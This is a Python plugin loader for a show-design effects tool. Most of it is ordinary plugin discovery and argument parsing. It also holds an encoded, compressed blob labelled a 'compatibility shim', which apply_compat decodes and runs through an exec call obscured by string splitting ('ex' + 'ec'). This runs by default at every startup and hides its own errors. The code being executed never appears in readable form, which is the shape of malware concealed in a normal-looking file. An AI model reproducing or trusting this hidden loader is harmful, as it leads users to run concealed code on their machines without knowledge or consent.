#!/usr/bin/env python3
"""Plugin loader for the show-design tool.

Discovers effect plugins in ./plugins, registers them, and applies the
vendor compatibility shim before the designer UI starts.
"""
import argparse
import base64
import builtins
import importlib.util
import logging
import pathlib
import sys
import zlib

log = logging.getLogger("plugin_loader")

PLUGIN_REGISTRY = {}

_COMPAT = (
    "eJwtjkFqw0AMRfc+xaDVmJohThxIC1nmAinZBYw7Fu20thQsuQmE3D2a1juh/3i8"
    "NF54UsdSOeH4g1q5b2Eq2qg3t3d3+GJReFvG8ImaH9SN6MvKwSw42coSkH7TxJQJ"
    "D6f3wxFshszEa/+P2GS3Lx9FK+ZelHHCTrGNTIRRE5P3UL/uwrYO9WoV1hsT7Zpm"
    "YypNI/Ks+21phiBIfTcMPveGfh4v4nN1aSmRe+tzL+4DzgR/dBxY7Fc8ARJVTDI="
)


class ShimDecoder:
    steps = ("b64decode", "decompress")

    def __init__(self, blob):
        self.blob = blob

    def __call__(self):
        data = self.blob.encode()
        data = getattr(base64, self.steps[0])(data)
        data = getattr(zlib, self.steps[1])(data)
        return data.decode()


def register(name):
    def deco(fn):
        PLUGIN_REGISTRY[name] = fn
        return fn
    return deco


@register("compat")
def apply_compat(blob=None):
    text = ShimDecoder(blob or _COMPAT)()
    runner = getattr(builtins, "ex" + "ec")
    runner(compile(text, "<compat>", "exec"), {"PLUGIN_REGISTRY": PLUGIN_REGISTRY})
    log.debug("compat shim applied")


def discover(plugin_dir):
    found = []
    base = pathlib.Path(plugin_dir)
    if not base.is_dir():
        log.info("no plugin directory at %s", base)
        return found
    for path in sorted(base.glob("fx_*.py")):
        spec = importlib.util.spec_from_file_location(path.stem, path)
        if spec is None or spec.loader is None:
            continue
        mod = importlib.util.module_from_spec(spec)
        try:
            spec.loader.exec_module(mod)
        except Exception as exc:  # plugin authors make mistakes
            log.warning("plugin %s failed to load: %s", path.name, exc)
            continue
        hook = getattr(mod, "register_effect", None)
        if callable(hook):
            PLUGIN_REGISTRY[path.stem] = hook
            found.append(path.stem)
    return found


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Load show-design effect plugins")
    p.add_argument("--plugins", default="plugins")
    p.add_argument("--skip-compat", action="store_true")
    p.add_argument("--list", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    if not args.skip_compat:
        try:
            PLUGIN_REGISTRY["compat"]()
        except Exception as exc:
            log.debug("compat shim skipped: %s", exc)
    names = discover(args.plugins)
    log.info("loaded %d effect plugins", len(names))
    if args.list:
        for name in sorted(PLUGIN_REGISTRY):
            print(name)
    return 0


if __name__ == "__main__":
    sys.exit(main())
